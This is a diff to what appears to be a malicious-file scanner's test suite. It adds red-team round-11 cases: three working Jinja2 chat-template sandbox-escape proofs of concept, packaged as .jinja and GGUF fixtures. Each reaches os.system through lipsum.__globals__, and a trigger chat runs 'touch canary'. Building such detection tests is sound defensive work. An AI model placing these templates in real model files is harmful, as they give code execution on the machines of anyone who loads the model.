@@ -515,6 +515,7 @@ def malicious_cases() -> list[Case]:
     cases.extend(template_round8_cases())  # red team round 8 on chat templates (block at the end of this file)
     cases.extend(template_round9_cases())  # red team round 9 on chat templates (block at the end of this file)
     cases.extend(template_round10_cases())  # red team round 10 on chat templates (block at the end of this file)
+    cases.extend(template_round11_cases())  # red team round 11 on chat templates (block at the end of this file)
     return cases
 
 
@@ -1125,7 +1126,9 @@ def template_round10_cases() -> list[Case]:
     ]
 # ======== END red team round 10 on chat templates =======================================================
 
-# ======== BEGIN red team round 11 on the scanner's readers (helper rdfix11) ==============================
+# ======== BEGIN red team round 11 on the scanner's readers (helper rdfix11) =======================
+
+
 # B: a slot state {'__class__': NumpyArrayWrapper} turns an argparse.Namespace into a joblib wrapper after its
 # BUILD; joblib.load then reads the next bytes as raw array data while a walk that follows the opcode's class
 # reads them as opcodes (and sees the payload only as a BINBYTES literal). C: legacy torch *tar* checkpoints:
@@ -1204,3 +1207,37 @@ def round11_cases() -> list[Case]:
              "storage-views pickle torch runs", "torch", CRIT, "tar_size_field.pt", legacy_tar_size_field()),
     ]
 # ======== END red team round 11 =========================================================================
+
+# ======== BEGIN red team round 11 on chat templates (helper tplfix11) =====================================
+# tests/test_templates_round11.py. Each PoC changes messages[-1] in place (its content becomes a namespace holding
+# lipsum), then walks lipsum.__globals__.os.system by chat keys on "render data" and calls it as a sort key.
+# B1 (class 1): 'x'|int(messages|last) IS messages[-1] (int's default), so last.update(..) changed render data
+# unseen by the alias tracking. B4 (class 2): (messages|last).update kept as a value and called by c1.sort(key=).
+# B3 (both): the bound method hidden behind 'x'|int(...), each hop behind |int too.
+TEMPLATE_ROUND11_B1 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(v=none) -%}{%- set ns.v = lipsum -%}\n{%- set last = 'x'|int(messages|last) -%}{%- if last.update({'content': ns}) %}{% endif -%}\n{%- set ns.v = (messages|last).content.v[p[1]] -%}\n{%- set ns.v = (messages|last).content.v[p[2]] -%}\n{%- set ns.v = (messages|last).content.v[p[3]] -%}\n{%- set run = (messages|last).content.v -%}{%- set c5 = [p[4] ~ ''] -%}{%- if c5.sort(key=run) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
+TEMPLATE_ROUND11_B3 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(v=lipsum) -%}\n{%- set keep = (messages|last).update -%}{%- set c1 = [{'content': ns}] -%}{%- if c1.sort(key=keep) %}{% endif -%}\n{%- set ns.v = 'x'|int((messages|last).content.v[p[1]]) -%}\n{%- set ns.v = 'x'|int((messages|last).content.v[p[2]]) -%}\n{%- set ns.v = 'x'|int((messages|last).content.v[p[3]]) -%}\n{%- set run = (messages|last).content.v -%}{%- set c5 = [p[4] ~ ''] -%}{%- if c5.sort(key=run) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
+TEMPLATE_ROUND11_B4 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(v=none) -%}{%- set ns.v = lipsum -%}\n{%- set keep = (messages|last).update -%}{%- set c1 = [{'content': ns}] -%}{%- if c1.sort(key=keep) %}{% endif -%}\n{%- set ns.v = (messages|last).content.v[p[1]] -%}\n{%- set ns.v = (messages|last).content.v[p[2]] -%}\n{%- set ns.v = (messages|last).content.v[p[3]] -%}\n{%- set run = (messages|last).content.v -%}{%- set c5 = [p[4] ~ ''] -%}{%- if c5.sort(key=run) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
+TEMPLATE_ROUND11_CHAT = json.dumps({"messages": [{"role": "user", "content": "x|__globals__|os|system|touch canary"}]})
+
+
+def template_round11_cases() -> list[Case]:
+    """Round 11 on chat templates: the three PoCs as .jinja (B1 and B4 also as GGUF), fired by fire.py's render."""
+    return [
+        Case("template_r11_int_default_alias", "5",
+             "1: 'x'|int(messages|last) is messages[-1]; its update(..) is unseen, then chat-keyed hops and "
+             "sort(key=os.system) (fired by that chat)", "jinja", "WW-TPL-002", "chat_template.jinja",
+             TEMPLATE_ROUND11_B1.encode(), chat=TEMPLATE_ROUND11_CHAT),
+        Case("gguf_template_r11_int_default_alias", "5",
+             "1: the same as a GGUF tokenizer.chat_template, fired by the trigger chat", "gguf_template",
+             "WW-TPL-002", "model.gguf", _gguf_template(TEMPLATE_ROUND11_B1.encode()), chat=TEMPLATE_ROUND11_CHAT),
+        Case("template_r11_int_hidden_bound_method", "5",
+             "1+2: 'x'|int((messages|last).update) given as a sort key changes render data (fired by that chat)",
+             "jinja", "WW-TPL-002", "chat_template.jinja", TEMPLATE_ROUND11_B3.encode(), chat=TEMPLATE_ROUND11_CHAT),
+        Case("template_r11_bound_method_sort_key", "5",
+             "2: set keep = (messages|last).update, c1.sort(key=keep) changes render data (fired by that chat)",
+             "jinja", "WW-TPL-002", "chat_template.jinja", TEMPLATE_ROUND11_B4.encode(), chat=TEMPLATE_ROUND11_CHAT),
+        Case("gguf_template_r11_bound_method_sort_key", "5",
+             "2: the same as a GGUF tokenizer.chat_template, fired by the trigger chat", "gguf_template",
+             "WW-TPL-002", "model.gguf", _gguf_template(TEMPLATE_ROUND11_B4.encode()), chat=TEMPLATE_ROUND11_CHAT),
+    ]
+# ======== END red team round 11 on chat templates =======================================================
